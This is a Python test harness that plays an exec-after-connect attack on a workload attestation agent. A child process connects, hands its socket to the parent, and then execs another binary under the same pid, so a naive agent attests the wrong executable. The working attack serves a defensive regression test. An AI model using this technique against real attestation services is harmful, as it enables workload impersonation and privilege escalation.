"""Plays the exec-after-connect attack on workload attestation for a Rust test.

  exec_after_connect.py AGENT_SOCKET RELAY_SOCKET VICTIM_EXE

1. A child process connects to AGENT_SOCKET and hands the connected socket to this process
   over SCM_RIGHTS; the kernel's SO_PEERCRED on that connection names the child's pid.
2. This process serves RELAY_SOCKET: the first client that connects is relayed, byte for
   byte, to the inherited connection, so the test's gRPC client talks to the agent as the
   child. It prints `ready <child pid>` once RELAY_SOCKET is bound.
3. On the line `exec` on stdin, the child execs VICTIM_EXE (with argument 30, for `sleep`):
   same pid, same connection, another executable. An agent that read /proc/<pid>/exe at
   request time would attest the connection as VICTIM_EXE from then on.

Runs until stdin closes or the relay ends; the child is killed on the way out.
"""

import os
import signal
import socket
import sys
import threading


def connect_in_child(agent_socket, victim_exe):
    """(connection made by a child, the child's pid, the pipe that tells it to exec)."""
    parent_end, child_end = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
    go_read, go_write = os.pipe()
    pid = os.fork()
    if pid == 0:
        parent_end.close()
        os.close(go_write)
        conn = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        conn.connect(agent_socket)
        socket.send_fds(child_end, [b"x"], [conn.fileno()])
        conn.close()
        # Wait for the word; if the parent goes, just leave.
        if os.read(go_read, 16):
            os.execv(victim_exe, [victim_exe, "30"])
        os._exit(0)
    child_end.close()
    os.close(go_read)
    _, fds, _, _ = socket.recv_fds(parent_end, 1, 1)
    return socket.socket(fileno=fds[0]), pid, go_write


def pump(source, sink):
    try:
        while True:
            data = source.recv(65536)
            if not data:
                break
            sink.sendall(data)
    except OSError:
        pass
    finally:
        try:
            sink.shutdown(socket.SHUT_WR)
        except OSError:
            pass


def main():
    if len(sys.argv) != 4:
        print(__doc__, file=sys.stderr)
        return 64
    agent_socket, relay_socket, victim_exe = sys.argv[1:]
    inherited, pid, go = connect_in_child(agent_socket, victim_exe)
    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    listener.bind(relay_socket)
    listener.listen(1)

    def relay():
        client, _ = listener.accept()
        threading.Thread(target=pump, args=(client, inherited), daemon=True).start()
        threading.Thread(target=pump, args=(inherited, client), daemon=True).start()

    threading.Thread(target=relay, daemon=True).start()
    print(f"ready {pid}", flush=True)
    try:
        for line in sys.stdin:
            if line.strip() == "exec":
                os.write(go, b"go")
    finally:
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
    return 0


if __name__ == "__main__":
    sys.exit(main())
